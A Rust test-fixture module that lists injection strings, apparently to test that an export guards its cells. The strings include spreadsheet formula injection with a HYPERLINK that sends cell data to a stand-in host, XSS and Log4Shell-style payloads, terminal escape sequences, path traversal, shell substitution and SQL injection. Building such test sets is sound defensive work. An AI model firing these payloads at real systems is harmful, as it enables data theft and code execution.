//! Texts that a spreadsheet, a browser, a terminal, a shell or a reader of a format would take for more than a text.

use gmv::input::parse::id::unguard;

/// Formulas, and what looks like one.
const FORMULAS: [&str; 14] = [
    "=cmd|'/c calc'!A0",
    "=HYPERLINK(\"http://x.invalid?\"&A1,\"x\")",
    "+1+1",
    "-2+3",
    "-x",
    "-5",
    "@SUM(A1)",
    "＝1+1",
    "%0A=1",
    "\t=9+1",
    "#1",
    "1E5",
    "00123",
    "12345678901234567890",
];

/// Markup.
const MARKUP: [&str; 15] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</title></style></script><svg onload=alert(1)>",
    "javascript:alert(1)",
    "]]>",
    "<!--",
    "&#x0;",
    "&amp;lt;",
    "<r><t>x</t></r>",
    "<r>",
    "_x0041_",
    "_x005F_x000D_",
    "{{7*7}}",
    "{% raw %}",
    "${jndi:ldap://x}",
];

/// What moves a cursor, rings a bell, names a window, or turns a line around.
const CONTROLS: [&str; 16] = [
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]8;;http://x.invalid\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;ZXZpbA==\u{7}",
    "\u{1b}]0;title\u{7}",
    "\u{1b}P1$r\u{1b}\\",
    "\u{9b}31m",
    "\u{85}next",
    "\u{7}bell",
    "a\0b",
    "del\u{7f}",
    "a\u{8}\u{8}b",
    "a\rb",
    "a\nb\tc",
    "\u{2028}a\u{2029}",
    "\u{202e}evil",
    "\u{2066}x\u{2069}",
];

/// What nobody sees, or what looks like another.
const UNSEEN: [&str; 12] = [
    "a\u{200b}b",
    "soft\u{ad}",
    "\u{3164}",
    "tag\u{e0041}",
    "x\u{feff}y",
    "\u{fffe}",
    "\u{ffff}",
    "\u{fdd0}",
    "é",
    "e\u{301}",
    "İ",
    "👩‍👩‍👧",
];

/// Paths, options, templates and words that programs know.
const WORDS: [&str; 15] = [
    "../../etc/passwd",
    "/dev/null",
    "C:\\con",
    "-rf",
    "--help",
    "%s%n%d",
    "$(id)",
    "`id`",
    "'; DROP TABLE orders; --",
    "NULL",
    "NaN",
    "true",
    "2026-01-01",
    "total",
    "(other)",
];

/// What separates, quotes or escapes somewhere.
const MARKS: [&str; 12] = [
    "a,b;c|d",
    "he said \"hi\"",
    "\"",
    "a|b`c`\\",
    "[x](javascript:alert(1))",
    "![i](http://x.invalid/x.png)",
    "http://x.invalid/x",
    "{\"a\":1}",
    "\\u0041",
    "*b* _i_ ~s~ $f$",
    "a\\|b",
    "----",
];

/// All of them, none of which reads as another one, with a tower of accents and a long one.
pub fn all() -> Vec<String> {
    let tower: String =
        std::iter::once('Z').chain("\u{340}\u{300}\u{301}\u{302}\u{303}".chars().cycle().take(200)).collect();
    let fixed = [&FORMULAS[..], &MARKUP, &CONTROLS, &UNSEEN, &WORDS, &MARKS].concat();
    let texts: Vec<String> = fixed.into_iter().map(str::to_owned).chain([tower, "长".repeat(1365)]).collect();
    let mut read: Vec<String> = texts.iter().map(|text| id(text)).collect();
    read.sort_unstable();
    assert!(read.windows(2).all(|two| two[0] != two[1]) && !read.iter().any(String::is_empty), "{read:?}");
    texts
}

/// What an export's cell of this text names: without the white space and the guards around it.
pub fn id(text: &str) -> String {
    String::from_utf8(unguard(text.as_bytes()).to_vec()).unwrap()
}

/// The harmless text in the place of one.
pub fn harmless(at: usize) -> String {
    format!("n{at:03}")
}

/// The text as people see it: what steers is shown by its number, and a long one is cut.
pub fn shown(text: &str) -> String {
    let mut shown = String::new();
    for c in text.chars().take(1_000) {
        if super::judges::steers(c) { shown.extend(c.escape_default()) } else { shown.push(c) }
    }
    if text.chars().count() > 1_000 { shown + "…" } else { shown }
}
